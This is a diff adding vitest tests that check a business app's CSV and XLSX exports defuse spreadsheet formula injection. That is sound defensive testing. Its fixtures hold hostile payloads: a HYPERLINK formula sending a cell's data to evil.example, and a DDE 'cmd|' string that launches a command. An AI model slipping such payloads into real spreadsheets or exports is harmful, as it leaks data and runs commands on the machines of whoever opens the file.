@@ -4,6 +4,7 @@
  */
 import { describe, expect, test } from 'vitest';
 import Papa from 'papaparse';
+import { strFromU8, unzipSync } from 'fflate';
 import readXlsxFile from 'read-excel-file/universal';
 import {
   FINANCIAL_HEADERS,
@@ -150,5 +151,59 @@ describe('stock, customer and campaign exports', () => {
     const link = campaign.rows[0][4];
     expect(link).toMatchObject({ kind: 'text' });
     expect((link as { value: string }).value.startsWith('https://wa.me/5535999991111?text=Ol%C3%A1%20Z%C3%A9')).toBe(true);
+  });
+});
+
+describe('formula injection (issue 40 §1): what staff typed never runs in the spreadsheet', () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Clique")';
+  const CMD = "+cmd|' /C calc'!A0";
+
+  test('csv: text cells starting with = + - @ tab or CR get a leading apostrophe; numbers, money and dates stay as they are', async () => {
+    const customers = customerRows(
+      [{ id: 'x', name: HYPERLINK, phone: CMD }],
+      prepareTransactions([tx({ customer_id: 'x', amount: 80, payment_status: 'pendente', due_date: '2026-03-01', at: '2026-02-20T12:00:00.000Z' })], TODAY),
+      TODAY,
+    );
+    const csv = Papa.parse<string[]>(await tableToCsvText(customerExport(customers, TODAY)), { skipEmptyLines: true }).data;
+    expect(csv[1]).toEqual([`'${HYPERLINK}`, `'${CMD}`, 'Inadimplente', '80,00', '1', '20/02/2026', '80,00']);
+
+    const campaign = Papa.parse<string[]>(await tableToCsvText(campaignExport(customers, '@{nome}', 'campanha')), { skipEmptyLines: true }).data;
+    expect(campaign[1][0]).toBe(`'${HYPERLINK}`);
+    expect(campaign[1][5].startsWith("'@")).toBe(true);
+
+    const stock = stockExport(
+      stockRows(
+        [{ id: 's', category_id: 'c', type_id: 't', material_id: 'm', thickness_id: 'th', dimension_id: 'd', minimum_quantity: 5, description: '-2+3+cmd|\' /C calc\'!A0' }],
+        [{ stock_item_id: 's', delta: -4 }],
+        [
+          { id: 'c', kind: 'category', name: '@SUM(1+1)' },
+          { id: 't', kind: 'type', name: '\t=1+1' },
+          { id: 'm', kind: 'material', name: '\r=1+1' },
+          { id: 'th', kind: 'thickness', name: '2', value: 2, unit: 'mm' },
+          { id: 'd', kind: 'dimension', name: 'Barra 6 m' },
+        ],
+      ),
+      TODAY,
+    );
+    const stockCsv = Papa.parse<string[]>(await tableToCsvText(stock), { skipEmptyLines: true }).data;
+    // The quantity -4 is a number the spreadsheet sums: no apostrophe.
+    expect(stockCsv[1]).toEqual(["'@SUM(1+1)", "'\t=1+1", "'\r=1+1", '2 mm', 'Barra 6 m', '-4', '5', "'-2+3+cmd|' /C calc'!A0"]);
+    // Plain text stays untouched.
+    expect(cellText({ kind: 'text', value: 'Zé da Solda' })).toBe('Zé da Solda');
+    expect(cellText({ kind: 'money', cents: -335 })).toBe('-3,35');
+    expect(cellText({ kind: 'number', value: -4 })).toBe('-4');
+  });
+
+  test('xlsx: the same text is a string cell, never a formula', async () => {
+    const customers = customerRows([{ id: 'x', name: HYPERLINK, phone: CMD }], [], TODAY);
+    const blob = await tableToXlsx(customerExport(customers, TODAY));
+    const files = unzipSync(new Uint8Array(await blob.arrayBuffer()));
+    const sheet = strFromU8(files['xl/worksheets/sheet1.xml']);
+    expect(sheet).not.toMatch(/<f[\s>]/);
+    // A shared or inline string; never t="str" (a formula's cached text).
+    expect(sheet).toMatch(/<c r="A2"[^>]* t="(s|inlineStr)"/);
+    expect(sheet).toMatch(/<c r="B2"[^>]* t="(s|inlineStr)"/);
+    const [{ data }] = await readXlsxFile(blob);
+    expect(data[1].slice(0, 2)).toEqual([HYPERLINK, CMD]);
   });
 });
